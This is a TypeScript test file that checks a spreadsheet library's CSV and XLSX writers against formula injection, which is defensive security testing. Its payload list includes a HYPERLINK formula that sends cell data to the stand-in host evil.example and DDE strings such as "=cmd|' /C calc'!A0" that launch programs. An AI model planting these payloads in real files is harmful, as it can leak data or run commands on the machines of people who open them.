import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { readSpreadsheet } from '@/formats/spreadsheet/read-spreadsheet';
import type { OutCell, OutSheet } from '@/formats/spreadsheet/sheet';
import { writeCsv } from '@/formats/spreadsheet/write-csv';
import { writeXlsx } from '@/formats/spreadsheet/write-xlsx';
import { unzipped } from './unzipped';

/** Signs a formula may begin with, in every width that spreadsheets fold into one. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** What may stand before the sign. */
const before = ['', ' ', '\u00a0', '\u3000', '\ufeff', '\t', '\n'];
const body = 'HYPERLINK("http://evil.example/"&A1,"x")';

const payloads: readonly string[] = [
  ...signs.flatMap((sign) => before.map((blank) => blank + sign + body)),
  '\r=1+1',
  '\tplain',
  '\rplain',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  'first line\n=1+1',
  'first line\r\n +1',
  '-2+3+cmd|x!A0',
  '=1+1";=2+2',
];

const sheetOf = (cells: readonly OutCell[]): OutSheet => ({
  name: 'Plan',
  rows: cells.map((cell) => [{ text: 'x' }, cell]),
  widths: [],
});

test('there are at least the sixty payloads that the plan asks for', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
});

test('in a workbook every payload is typed text and comes back as it was', async () => {
  const bytes = await writeXlsx([sheetOf(payloads.map((text) => ({ text })))]);
  const xml = (await unzipped(bytes)).get('xl/worksheets/sheet1.xml') ?? '';
  expect(xml).not.toMatch(/<f[\s>/]/);
  const types = [...xml.matchAll(/<c r="B\d+"[^>]*>/g)].map(([tag]) => tag.includes('t="inlineStr"'));
  expect(types).toEqual(payloads.map(() => true));
  const read = await readSpreadsheet(bytes, 'a.xlsx');
  expect(read.ok && read.book.sheets[0]?.rows.map((row) => row.cells[1])).toEqual(payloads);
});

test.each(payloads.map((text) => [JSON.stringify(text), text]))(
  'in CSV %s begins with an apostrophe that reading takes off',
  async (_name, text) => {
    const bytes = writeCsv(sheetOf([{ text }]));
    const cell = Papa.parse<string[]>(new TextDecoder().decode(bytes)).data[0]?.[1] ?? '';
    expect(cell.startsWith("'")).toBe(true);
    for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[\s\u00a0\u3000\ufeff]*[=+\-@＝＋－＠]/);
    const read = await readSpreadsheet(bytes, 'a.csv');
    expect(read.ok && read.book.sheets[0]?.rows[0]?.cells[1]).toBe(text);
  },
);

test('real negative numbers stay numbers', async () => {
  const sheet = sheetOf([
    { number: -5, format: 'plain' },
    { number: -12.5, format: 'percent' },
  ]);
  const [first, second] = Papa.parse<string[]>(new TextDecoder().decode(writeCsv(sheet))).data;
  expect([first?.[1], second?.[1]]).toEqual(['-5', '-12.5%']);
  const read = await readSpreadsheet(await writeXlsx([sheet]), 'a.xlsx');
  expect(read.ok && read.book.sheets[0]?.rows.map((row) => row.cells[1])).toEqual([-5, { percent: -12.5 }]);
});

test('an apostrophe that was there before stays', async () => {
  const texts = ["'quoted'", "''", "'=1", "'a\n=b", "it's"];
  const read = await readSpreadsheet(writeCsv(sheetOf(texts.map((text) => ({ text })))), 'a.csv');
  expect(read.ok && read.book.sheets[0]?.rows.map((row) => row.cells[1])).toEqual(texts);
});
